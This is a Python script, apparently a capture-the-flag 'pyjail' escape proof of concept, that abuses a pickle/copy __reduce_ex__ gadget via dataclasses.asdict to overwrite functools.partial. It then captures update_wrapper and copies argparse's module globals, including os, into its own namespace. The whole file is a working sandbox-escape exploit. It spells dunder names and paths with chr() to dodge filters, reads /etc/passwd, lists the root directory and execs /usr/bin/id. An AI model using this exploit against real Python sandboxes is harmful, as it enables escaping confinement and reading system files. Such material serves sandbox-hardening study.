# source: CTF pyjail "__globals__ via functools.update_wrapper/wraps" + copy/pickle __reduce_ex__ gadget (copy._reconstruct slotstate setattr), HackTricks "bypass python sandboxes"
# family: type() passed as a value builds a class with a runtime-spelled __reduce_ex__; dataclasses.asdict -> copy.deepcopy -> _reconstruct does setattr(module, name, value); swap functools.partial to capture update_wrapper, then merge argparse's module globals (incl. _os) into the script's globals
# goal: reach module os (prints <module 'os'>, uid, / listing, /etc/passwd via os.open/os.read, runs /usr/bin/id via os.execl)
import argparse
import dataclasses
import functools

D = chr(95) * 2
Meta = next(map(type, [int]))
grabbed = []


@dataclasses.dataclass
class Box:
    item: object


def grab(fn, **kw):
    grabbed.append(fn)
    return lambda f: f


def setter(obj, name, value):
    def hook(self, proto):
        return (lambda: obj, (), (None, dict(zip([name], [value]))))
    return hook


def set_attr(obj, name, value):
    ns = dict(zip([D + "reduce_ex" + D], [setter(obj, name, value)]))
    Hook = next(map(Meta, ["Hook"], [(object,)], [ns]))
    dataclasses.asdict(Box(Hook()))


fh = argparse.ArgumentParser.format_help
orig = functools.partial
set_attr(functools, "partial", grab)


@functools.wraps(fh)
def helper():
    return 0


set_attr(functools, "partial", orig)
uw = grabbed[0]
uw(helper, argparse.ArgumentParser.format_help, (), (D + "globals" + D,))


def run():
    print(_os, flush=True)
    print(_os.getuid(), _os.listdir(chr(47)), flush=True)
    fd = _os.open(chr(47) + "etc" + chr(47) + "passwd", 0)
    print(_os.read(fd, 4096).decode(), flush=True)
    _os.execl(chr(47) + "usr" + chr(47) + "bin" + chr(47) + "id", "id")


run()
